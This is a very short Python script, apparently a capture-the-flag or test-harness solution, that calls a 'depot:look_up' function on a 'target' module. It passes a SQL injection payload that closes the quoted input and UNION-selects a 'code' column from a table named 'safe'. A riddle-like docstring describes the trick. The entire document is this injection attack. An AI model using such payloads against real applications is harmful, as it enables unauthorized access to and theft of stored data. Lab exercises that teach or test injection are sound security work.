"""A name on the list closes the list, and asks for the safe as well."""

from target import call

print(call("depot:look_up", "north", ["') UNION SELECT 0, code, 0 FROM safe --"]))
